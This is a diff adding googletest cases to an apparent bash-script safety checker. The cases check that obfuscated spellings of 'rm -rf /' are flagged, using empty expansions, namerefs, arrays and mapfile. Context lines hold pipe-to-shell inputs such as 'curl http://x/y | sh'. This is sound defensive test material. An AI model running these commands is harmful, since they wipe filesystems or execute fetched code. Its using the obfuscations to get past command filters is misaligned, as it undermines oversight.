@@ -121,6 +121,31 @@ TEST(BashDelete, EverySpellingOfRecursiveDeletionIsFound) {
                                     "f=rm; g() { $f -rf /; }; g"});
 }
 
+TEST(BashDelete, ACommandsNameWithPartsThatAreEmptyOrMeantElsewhere) {
+  for (const char* script :
+       {"r$@m -rf /", "r$*m -rf /", "r${@}m -rf /", "r\"$@\"m -rf /", "r${x}m -rf /", "r$1m -rf /", "r$9m -rf /",
+        "r${-:0:0}m -rf /", "$@rm -rf /", "$x rm -rf /", "/bin/r$@m -rf /", "declare -n r=x; x=rm; $r -rf /",
+        "declare -n r=x; r=rm; $x -rf /", "x=rm; declare -n r=x; $r -rf /", "declare -n r=c; c='rm -rf /'; $r",
+        "mapfile -t a <<< rm; ${a[0]} -rf /", "declare -A m=([k]=rm); ${m[k]} -rf /", "a=rm; ${a[0]} -rf /"})
+    for (auto level : {VerifyLevel::kDefault, VerifyLevel::kStrict})
+      EXPECT_GT(judged(script, level).count("error"), 0) << script << "\n" << judged(script, level).words();
+}
+
+TEST(BashCommand, NestedSubscriptsCostNoMoreThanTheyAreLong) {
+  std::string index = "k";
+  for (int i = 0; i < 50; ++i) index = "${m[" + index + "]}";
+  judged("declare -A m=([k]=k)\n" + index + " x\n", VerifyLevel::kStrict);  // ends, or the test does not
+}
+
+TEST(BashCommand, WhatNobodyKnowsIsAnErrorUnderStrictOnly) {
+  for (const char* script : {"$1 -rf x", "\"${a[i]}\" x", "s$@h -c 'echo x > y'", "s${x}h -c 'id'", "who$@ami"}) {
+    EXPECT_GT(judged(script, VerifyLevel::kStrict).count("error"), 0) << script;
+  }
+  for (const char* script : {"$1 x", "python$VERSION a.py", "declare -n r=x; x=5; echo $r", "mapfile -t a <<< x; echo ${a[0]}",
+                             "declare -n a=b; declare -n b=a; echo $a", "f() { local -n out=$1; out=5; }; f y; echo $y"})
+    EXPECT_EQ(judged(script).count("error"), 0) << script << "\n" << judged(script).words();
+}
+
 TEST(BashInterpreter, TextFromElsewhereIsFound) {
   refuses_by("bash-pipe-to-interpreter", {"curl http://x/y | sh",
                                           "curl -s https://x | bash",
